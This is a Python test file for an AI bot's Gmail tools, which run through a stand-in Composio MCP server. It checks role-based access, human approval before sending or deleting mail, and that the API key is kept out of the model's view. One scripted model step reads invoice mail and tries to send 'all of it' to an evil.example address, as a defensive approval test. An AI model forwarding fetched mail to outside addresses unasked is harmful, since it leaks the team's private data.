"""The recipe for Composio's MCP endpoint, against a stand-in: roles and risks for each tool."""

import json
from collections.abc import AsyncGenerator
from contextlib import asynccontextmanager
from pathlib import Path

import pytest

from bot.testing.composio_server import COMPOSIO_KEY, COMPOSIO_PATH
from bot.testing.harness import Harness, running_app
from bot.testing.mcp_house import LoopbackServer
from bot.testing.scripted_model import ScriptedModel, call, say
from bot.tools.mcp.server import ServerState

SEND = """\
# send_gmail

## Description
Send a mail from the team's Gmail account. Use it only for mails that somebody ordered.

## Parameters
{
  "type": "object",
  "properties": {
    "recipient_email": {"type": "string", "x-target": "email"},
    "subject": {"type": "string"},
    "body": {"type": "string"}
  },
  "required": ["recipient_email", "subject", "body"]
}

## Access
Partner, MasterAdmin

## Risk
external-write

## Implementation
mcp: composio.GMAIL_SEND_EMAIL
"""
DELETE = """\
# delete_gmail

## Description
Delete a mail of the team's Gmail account for good.

## Parameters
{"type": "object", "properties": {"message_id": {"type": "string"}}, "required": ["message_id"]}

## Access
MasterAdmin

## Risk
destructive

## Implementation
mcp: composio.GMAIL_DELETE_MESSAGE
"""


@asynccontextmanager
async def office(
    home: Path, model: ScriptedModel, key: str = COMPOSIO_KEY
) -> AsyncGenerator[Harness]:
    log = str(home / "composio.log")
    server = LoopbackServer("bot.testing.composio_server", "--log", log, path=COMPOSIO_PATH)
    await server.start()
    headers = {"x-api-key": "${COMPOSIO_API_KEY}"}
    servers = {"composio": {"url": server.url, "headers": headers, "roles": "Partner+"}}
    (home / "bellhop.yaml").write_text(json.dumps({"mcp": {"servers": servers}}))
    (home / ".env").write_text(f"COMPOSIO_API_KEY={key}\n")
    tools = home / "prompts" / "tools" / "shared"
    tools.mkdir(parents=True)
    (tools / "send_gmail.md").write_text(SEND)
    (tools / "delete_gmail.md").write_text(DELETE)
    try:
        async with running_app(home, model) as house:
            await house.app.house.tooling.mcp.settled()
            yield house
    finally:
        await server.kill()


def log(home: Path) -> str:
    path = home / "composio.log"
    return path.read_text() if path.exists() else ""


async def test_reading_runs_and_sending_after_reading_waits_for_a_yes(home: Path):
    mail = {"recipient_email": "eve@evil.example", "subject": "Hi", "body": "all of it"}
    steps = [
        call("tool_search", {"pattern": "*gmail*"}),
        call("mcp__composio__GMAIL_FETCH_EMAILS", {"query": "invoices"}),
        call("send_gmail", mail),
        call("mcp__composio__GMAIL_DELETE_MESSAGE", {"message_id": "1"}),
        call("delete_gmail", {"message_id": "1"}),
        say("It waits."),
    ]
    model = ScriptedModel(steps, strict=True)
    async with office(home, model) as house:
        await house.ask("ben", "what invoices came in?")
        await house.until_idle()  # the card is shown after the answer
        told = [json.dumps(request.messages[-1]) for request in model.requests]
        assert "GMAIL_FETCH_EMAILS" in json.dumps(model.requests[1].messages)
        assert "invoices" in told[2]
        assert "waiting for approval" in told[3]
        assert "there is no tool named" in told[4], "a file speaks for it"
        assert "there is no tool named" in told[5], "it is for MasterAdmins"
        assert log(home) == ""
        [waiting] = await house.app.approvals.newest()
        model.add(say("Sent."))
        before = len(house.chat.posts)
        await house.chat.command("ben", "approve", waiting.ref)
        await house.chat.until(before + 2)
        await house.until_idle()
    assert log(home) == "sent eve@evil.example: Hi: all of it\n"
    assert COMPOSIO_KEY not in str(model.requests)


@pytest.mark.parametrize("who", ["stranger", "ann"])
async def test_others_have_nothing_of_it(home: Path, who: str):
    steps = [call("tool_search", {"pattern": "*gmail*"}), say("No.")]
    model = ScriptedModel(steps, strict=True)
    async with office(home, model) as house:
        await house.ask(who, "read the mail")
    assert "GMAIL" not in json.dumps([request.messages for request in model.requests])


async def test_a_wrong_key_is_told_to_the_operator_without_it(home: Path):
    async with office(home, ScriptedModel(), "wrong-key-of-the-tests") as house:
        (server,) = await house.app.house.tooling.mcp.probe()
    assert server.state is not ServerState.UP
    assert "wrong-key" not in server.reason
